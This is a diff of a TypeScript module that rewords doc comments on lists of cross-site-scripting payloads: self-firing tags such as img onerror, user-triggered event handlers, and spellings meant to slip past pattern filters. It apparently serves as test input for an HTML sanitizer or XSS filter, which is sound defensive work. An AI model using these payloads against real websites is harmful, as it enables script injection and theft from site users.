@@ -1,6 +1,6 @@
 import { decimal, escaped, hexadecimal, RUN } from './payload.ts';
 
-/** Elements that fire by themselves, each with a handler in it. */
+/** Elements that fire events by themselves, each with a handler. */
 const SELF_FIRING = [
   `<img src=x onerror=${RUN}>`,
   `<img src onerror=${RUN}>`,
@@ -75,7 +75,7 @@ const SELF_FIRING = [
   `<noscript><img src=x onerror=${RUN}></noscript>`,
 ] as const;
 
-/** Handlers that wait for the reader, each on an element that bodies may hold or that fires it. */
+/** Handlers for user actions, each on an element that bodies may contain or that fires the event. */
 const WAITING: readonly (readonly [element: string, ...names: string[]])[] = [
   ['p', 'onclick', 'onmouseover', 'onpointerenter', 'oncopy', 'onselectstart', 'ontouchstart'],
   ['a href=#', 'ondblclick', 'onmousedown', 'onfocus', 'onkeydown', 'ondragstart', 'onauxclick'],
@@ -98,7 +98,7 @@ const WAITING: readonly (readonly [element: string, ...names: string[]])[] = [
   ['x', 'onfullscreenchange', 'oncuechange', 'onshow', 'onbegin', 'onwebkitmouseforcechanged'],
 ];
 
-/** How a handler can be written so that a pattern misses it. */
+/** Spellings of a handler that a pattern may miss. */
 const SPELLINGS = [
   `<img src=x onerror="${RUN}">`,
   `<img src=x onerror='${RUN}'>`,
@@ -165,7 +165,7 @@ const SPELLINGS = [
   `<img src=x onerror="alert?.(document.domain)">`,
 ] as const;
 
-/** Handlers of events: self-firing, waiting for the reader, and spelt so that a pattern misses them. */
+/** Event handlers: self-firing, user-triggered, and in spellings that a pattern may miss. */
 export const HANDLERS: readonly string[] = [
   ...SELF_FIRING,
   ...WAITING.flatMap(([element, ...names]) =>
